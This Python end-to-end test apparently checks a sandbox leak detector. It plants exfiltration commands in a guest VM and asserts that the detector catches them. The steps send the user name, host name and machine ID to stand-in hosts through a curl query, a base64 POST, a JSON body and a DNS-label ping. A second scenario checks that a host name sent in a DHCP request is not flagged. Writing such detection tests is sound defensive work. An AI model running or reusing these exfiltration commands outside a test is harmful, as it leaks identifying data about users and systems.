# SPDX-License-Identifier: Apache-2.0
"""A guest has names of its own in each run: whoever sends them is caught, and what every system says of itself is no leak."""

import json
import sqlite3
import subprocess

from e2e import check, check_equal, run_json, scenario

ASK = """id -nu 1000 > /tmp/names; cat /proc/sys/kernel/hostname /etc/hostname /etc/machine-id >> /tmp/names;
          stat -c %U /home/alex/Documents/* >> /tmp/names; cat /tmp/names"""


def names_of(folder):
    return {each["kind"]: each["value"] for each in json.loads((folder / "manifest.json").read_text())["identities"]}


def said(step, folder):
    """The output of a step, from the record of the run."""
    with sqlite3.connect(folder / "events.sqlite") as store:
        for (data,) in store.execute("SELECT data FROM events WHERE type = 'run.step/1'"):
            if json.loads(data)["index"] == step:
                return json.loads(data)["output"].replace("\\n", "\n").split()
    return None


# Each name by another way out: a query, a report in base64, a UUID in JSON, a DNS label.
code, verdict, folder = run_json(scenario(f"""about: Something in the guest sends what the guest is called.
documents:
  memo: {{format: txt, marking: none, to: /home/alex/Documents}}
steps:
  - plant: memo
  - exec: >-
      {ASK}
  - exec: curl --silent --show-error -o /dev/null "http://user.example/check?who=$(id -nu 1000)"
  - exec: >-
      uname -n | base64 > /tmp/host.b64;
      curl --silent --show-error -o /dev/null --data-binary @/tmp/host.b64 https://host.example/report
  - exec: >-
      id=$(sed -E 's/(.{{8}})(....)(....)(....)/\\1-\\2-\\3-\\4-/' /etc/machine-id);
      curl --silent --show-error -o /dev/null --json "{{\\"install\\": \\"$id\\"}}" https://machine.example/register
  - exec: {{command: 'ping -c 1 -W 1 "$(hostname).names.example" > /dev/null', may-fail: true}}
"""), "clamav", "--seed", 11)
for step in verdict["steps"]:
    check(step["done"], f"step {step['index'] + 1} ({step['text']}): {step['detail']}")
names = names_of(folder)
check_equal(sorted(names), ["host", "machine id", "user"], "kinds of names in the manifest")
user, host, machine = names["user"], names["host"], names["machine id"]
check_equal(said(1, folder), [user, host, host, machine, user], "what the guest says it is called, and who owns the memo")

check_equal((code, verdict["verdict"]), (1, "leak"), f"exit code and verdict (reasons: {verdict['reasons']})")
undeclared = [f for f in verdict["findings"] if not f["declared"]]
for data_class, value, place in (("identity/user", user, "user.example"), ("identity/host", host, "host.example"),
                                 ("identity/machine-id", machine, "machine.example"),
                                 ("identity/host", host, "names.example")):
    found = [f for f in undeclared if f["class"] == data_class and place in f["destination"]]
    check_equal([f["canary"] for f in found], [value], f"{data_class} at {place}")
check_equal(len(undeclared), 4, f"undeclared findings: {undeclared}")

# Nobody sends them in this run but the system: it asks for an address under its name after a restart.
code, verdict, folder = run_json(scenario(f"""about: The guest restarts and says its name to its link, as systems do.
documents:
  memo: {{format: txt, marking: none, to: /home/alex/Documents}}
steps:
  - plant: memo
  - reboot:
  - exec: >-
      {ASK}
"""), "clamav", "--seed", 12)
for step in verdict["steps"]:
    check(step["done"], f"step {step['index'] + 1} ({step['text']}): {step['detail']}")
others = names_of(folder)
for kind in names:
    check(others[kind] != names[kind], f"the {kind} is another with another seed: {others[kind]}")
check_equal(said(2, folder), [others["user"], others["host"], others["host"], others["machine id"], others["user"]],
            "what the guest is called after a restart")
asked = subprocess.run(["tshark", "-r", folder / "frames.pcapng", "-Y", "dhcp.option.hostname", "-T", "fields", "-e",
                        "dhcp.option.hostname"], capture_output=True, text=True, check=True).stdout.split()
check(asked and set(asked) == {others["host"]}, f"names under which the guest asked for its address: {asked}")
check_equal({f["class"] for f in verdict["findings"] if f["declared"]}, {"operational/host-name"}, "declared findings")
check_equal([f for f in verdict["findings"] if not f["declared"]], [], "undeclared findings")
check_equal((code, verdict["verdict"]), (0, "no leak observed"), f"exit code and verdict (reasons: {verdict['reasons']})")
